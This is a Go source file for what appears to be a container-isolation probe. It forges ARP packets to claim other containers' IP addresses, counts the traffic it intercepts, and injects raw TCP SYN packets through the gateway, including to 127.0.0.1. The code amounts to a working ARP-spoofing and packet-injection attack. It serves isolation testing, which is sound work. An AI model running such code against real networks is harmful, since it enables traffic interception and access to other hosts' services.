package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"log"
	"net"
	"net/netip"
	"os"
	"strings"
	"syscall"
	"time"
)

// How long an attack goes on, and how often it says its lie.
const (
	attack = 5 * time.Second
	again  = 20 * time.Millisecond
)

const (
	allProtocols = 0x0003 // ETH_P_ALL
	ipv4         = 0x0800
	arp          = 0x0806
)

var everyone = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// spoof tries to take other containers' addresses: it says by ARP that they
// are here, and sends frames that seem to come from their network cards. For
// each it prints one line:
//
//	refused ADDRESS: no raw sockets here
//	took ADDRESS     that many packets to it came here
//	kept ADDRESS     none did
//
// A target tcp/ADDRESS:PORT is asked for by a packet that no socket need be able
// to send: handed to the gateway whatever the address, which may be 127.0.0.1. It
// prints "answered" or "silent" for it.
func spoof(args []string) {
	if err := rawIP(); err != nil {
		fmt.Println("refused raw IP:", err)
	}
	card, err := open()
	if err != nil {
		for _, arg := range args {
			fmt.Printf("refused %s: %v\n", arg, err)
		}
		return
	}
	var victims []net.IP
	var asked []netip.AddrPort
	for _, arg := range args {
		if address, ok := strings.CutPrefix(arg, "tcp/"); ok {
			asked = append(asked, netip.MustParseAddrPort(address))
		} else if ip := net.ParseIP(arg).To4(); ip != nil {
			victims = append(victims, ip)
		} else {
			log.Fatalf("not an address: %s", arg)
		}
	}
	taken, answered := card.attack(victims, asked)
	for _, ip := range victims {
		if n := taken[ip.String()]; n > 0 {
			fmt.Printf("took %s %d\n", ip, n)
		} else {
			fmt.Printf("kept %s\n", ip)
		}
	}
	for _, address := range asked {
		if answered[address] {
			fmt.Printf("answered tcp/%s\n", address)
		} else {
			fmt.Printf("silent tcp/%s\n", address)
		}
	}
}

// rawIP opens a socket that may send IP packets from any address.
func rawIP() error {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err == nil {
		_ = syscall.Close(fd)
	}
	return err
}

// card is the container's network card, raw.
type card struct {
	fd      int
	index   int
	mac     net.HardwareAddr
	ip      net.IP
	gateway net.HardwareAddr
}

func open() (*card, error) {
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, int(htons(allProtocols)))
	if err != nil {
		return nil, err
	}
	eth, err := net.InterfaceByName("eth0")
	if err != nil {
		return nil, err
	}
	if err := syscall.Bind(fd, &syscall.SockaddrLinklayer{Protocol: htons(allProtocols), Ifindex: eth.Index}); err != nil {
		return nil, err
	}
	addrs, err := eth.Addrs()
	if err != nil || len(addrs) == 0 {
		return nil, fmt.Errorf("eth0 has no address: %v", err)
	}
	c := &card{fd: fd, index: eth.Index, mac: eth.HardwareAddr, ip: addrs[0].(*net.IPNet).IP.To4()}
	c.gateway, err = gateway(c.ip)
	return c, err
}

// gateway has the kernel ask for the gateway's network card; the gateway is the
// first address of the network, whose size is in the route.
func gateway(ip net.IP) (net.HardwareAddr, error) {
	routes, err := os.ReadFile("/proc/net/route")
	if err != nil {
		return nil, err
	}
	var via net.IP
	for line := range strings.Lines(string(routes)) {
		if f := strings.Fields(line); len(f) > 2 && f[1] == "00000000" {
			var n uint32
			if _, err := fmt.Sscanf(f[2], "%x", &n); err != nil {
				return nil, err
			}
			via = binary.LittleEndian.AppendUint32(nil, n)
		}
	}
	if via == nil {
		return nil, fmt.Errorf("%s has no gateway", ip)
	}
	for end := time.Now().Add(deadline); time.Now().Before(end); time.Sleep(again) {
		if conn, err := net.Dial("udp", net.JoinHostPort(via.String(), "9")); err == nil {
			_, _ = conn.Write([]byte("who are you"))
			_ = conn.Close()
		}
		table, err := os.ReadFile("/proc/net/arp")
		if err != nil {
			return nil, err
		}
		for line := range strings.Lines(string(table)) {
			if f := strings.Fields(line); len(f) > 3 && f[0] == via.String() && f[3] != "00:00:00:00:00:00" {
				return net.ParseMAC(f[3])
			}
		}
	}
	return nil, fmt.Errorf("the gateway %s has no network card", via)
}

// attack lies for a while and counts what comes of it.
func (c *card) attack(victims []net.IP, asked []netip.AddrPort) (taken map[string]int, answered map[netip.AddrPort]bool) {
	taken, answered = map[string]int{}, map[netip.AddrPort]bool{}
	received := make(chan []byte, 1024)
	go c.receive(received)
	tick := time.NewTicker(again)
	defer tick.Stop()
	for end := time.After(attack); ; {
		select {
		case <-end:
			return taken, answered
		case <-tick.C:
			for _, ip := range victims {
				c.claim(ip)
			}
			for _, address := range asked {
				c.send(c.gateway, c.mac, ipv4, syn(c.ip, address.Addr().AsSlice(), address.Port()))
			}
		case packet := <-received:
			from, to, header := net.IP(packet[12:16]), net.IP(packet[16:20]), int(packet[0]&15)*4
			for _, ip := range victims {
				if to.Equal(ip) {
					taken[ip.String()]++
				}
			}
			if to.Equal(c.ip) && len(packet) >= header+2 {
				port := binary.BigEndian.Uint16(packet[header:])
				answered[netip.AddrPortFrom(netip.AddrFrom4([4]byte(from)), port)] = true
			}
		}
	}
}

// claim says that an address is here, in every way that tables are filled by,
// and that the card which Docker gives to it is.
func (c *card) claim(ip net.IP) {
	theirs := append(net.HardwareAddr{0x02, 0x42}, ip...)
	c.send(everyone, c.mac, arp, arpPacket(2, c.mac, ip, everyone, ip))
	c.send(everyone, c.mac, arp, arpPacket(1, c.mac, ip, make(net.HardwareAddr, 6), ip))
	c.send(c.gateway, c.mac, arp, arpPacket(2, c.mac, ip, c.gateway, ip))
	c.send(everyone, theirs, arp, arpPacket(1, theirs, ip, make(net.HardwareAddr, 6), ip))
}

func (c *card) send(to, from net.HardwareAddr, protocol uint16, payload []byte) {
	frame := bytes.Join([][]byte{to, from, binary.BigEndian.AppendUint16(nil, protocol), payload}, nil)
	address := &syscall.SockaddrLinklayer{Protocol: htons(protocol), Ifindex: c.index, Halen: 6}
	copy(address.Addr[:], to)
	if err := syscall.Sendto(c.fd, frame, 0, address); err != nil {
		log.Printf("send: %v", err)
	}
}

// receive passes the IPv4 packets on that came to this card.
func (c *card) receive(to chan<- []byte) {
	b := make([]byte, 1<<16)
	for {
		n, from, err := syscall.Recvfrom(c.fd, b, 0)
		if err != nil {
			log.Fatal(err)
		}
		link, ok := from.(*syscall.SockaddrLinklayer)
		if ok && link.Pkttype != syscall.PACKET_OUTGOING && n >= 34 && binary.BigEndian.Uint16(b[12:]) == ipv4 {
			to <- bytes.Clone(b[14:n])
		}
	}
}

func arpPacket(op uint16, mac net.HardwareAddr, ip net.IP, toMAC net.HardwareAddr, toIP net.IP) []byte {
	head := []byte{0, 1, 8, 0, 6, 4}
	return bytes.Join([][]byte{binary.BigEndian.AppendUint16(head, op), mac, ip.To4(), toMAC, toIP.To4()}, nil)
}

// syn is an IPv4 packet that asks for a TCP connection.
func syn(from, to net.IP, port uint16) []byte {
	tcp := make([]byte, 20)
	binary.BigEndian.PutUint16(tcp[0:], 40000)
	binary.BigEndian.PutUint16(tcp[2:], port)
	binary.BigEndian.PutUint32(tcp[4:], 1)
	tcp[12], tcp[13] = 5<<4, 2
	binary.BigEndian.PutUint16(tcp[14:], 65535)
	pseudo := bytes.Join([][]byte{from, to, {0, 6, 0, 20}, tcp}, nil)
	binary.BigEndian.PutUint16(tcp[16:], checksum(pseudo))
	ip := make([]byte, 20)
	ip[0], ip[8], ip[9] = 0x45, 64, 6
	binary.BigEndian.PutUint16(ip[2:], 40)
	copy(ip[12:], from)
	copy(ip[16:], to)
	binary.BigEndian.PutUint16(ip[10:], checksum(ip))
	return append(ip, tcp...)
}

func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

func htons(n uint16) uint16 { return n<<8 | n>>8 }
